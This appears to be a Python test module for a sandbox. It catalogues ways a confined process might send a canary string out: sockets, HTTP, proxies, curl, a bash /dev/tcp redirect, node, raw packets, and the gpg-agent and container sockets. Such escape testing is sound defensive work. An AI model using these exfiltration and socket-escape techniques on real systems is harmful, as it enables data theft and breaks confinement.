"""Theft over the network, and sockets of the session."""

import os
import socket
import subprocess
import urllib.request

from files import shell

ATTACKS = {}
LOOT = b"canary-sent "


def attack(kind):
    def add(function):
        ATTACKS[function.__name__.replace("_", "-")] = (kind, function)
        return function

    return add


def stream(family, address, data=LOOT):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect(address)
        return connection.sendall(data)


def datagram(family, address, data=LOOT):
    with socket.socket(family, socket.SOCK_DGRAM) as connection:
        return connection.sendto(data, address)


@attack("network")
def connect_to_internet(t):
    return stream(socket.AF_INET, (t["internet"], t["port"]))


@attack("network")
def connect_to_loopback(t):
    return stream(socket.AF_INET, ("127.0.0.1", t["port"]))


@attack("network")
def connect_over_ipv6(t):
    return stream(socket.AF_INET6, ("::1", t["port"]))


@attack("network")
def datagram_to_internet(t):
    return datagram(socket.AF_INET, (t["internet"], t["port"]))


@attack("network")
def names_as_messages(t):
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0bcanary-sent\x04test\x00\x00\x01\x00\x01"
    return datagram(socket.AF_INET, (t["internet"], t["port"]), query)


@attack("network")
def request_over_http(t):
    address = f"http://{t['internet']}:{t['port']}/canary-sent"
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(address, timeout=1).read()


@attack("network")
def request_through_proxy(t):
    proxy = urllib.request.ProxyHandler({"http": f"http://{t['internet']}:{t['port']}"})
    return urllib.request.build_opener(proxy).open("http://collect.test/canary-sent", timeout=1).read()


@attack("network")
def request_by_curl(t):
    return shell(f"curl -s -m 1 --noproxy '*' http://{t['internet']}:{t['port']}/canary-sent")


@attack("network")
def request_by_bash(t):
    script = f"exec 3<>/dev/tcp/{t['internet']}/{t['port']}; echo canary-sent >&3"
    return subprocess.run(["bash", "-c", script], capture_output=True, timeout=10).stderr


@attack("network")
def request_by_node(t):
    script = f"require('http').get('http://{t['internet']}:{t['port']}/canary-sent').on('error', () => {{}})"
    script += "; setTimeout(() => process.exit(), 500)"
    return subprocess.run(["node", "-e", script], capture_output=True, timeout=20).stderr


@attack("network")
def fast_open(t):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        return connection.sendto(LOOT, 0x20000000, (t["internet"], t["port"]))


@attack("network")
def raw_packets(t):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as connection:
        size = 8 + len(LOOT)
        header = t["port"].to_bytes(2, "big") * 2 + size.to_bytes(2, "big") + b"\0\0"
        return connection.sendto(header + LOOT, (t["internet"], 0))


@attack("sockets")
def bus_of_session(t):
    return stream(socket.AF_UNIX, t["bus"])


@attack("sockets")
def abstract_socket(t):
    return stream(socket.AF_UNIX, "\0" + t["abstract"])


@attack("sockets")
def datagram_to_abstract_socket(t):
    return stream(socket.AF_UNIX, "\0" + t["abstract"], LOOT * 2)


@attack("sockets")
def agent_in_home(t):
    return stream(socket.AF_UNIX, t["home"] + "/.gnupg/S.gpg-agent")


@attack("sockets")
def socket_of_containers(t):
    return stream(socket.AF_UNIX, t["outside"] + "/containers.sock")


@attack("sockets")
def socket_over_link(t):
    os.symlink(t["outside"] + "/containers.sock", "/tmp/mcp-attack-sock")
    return stream(socket.AF_UNIX, "/tmp/mcp-attack-sock")
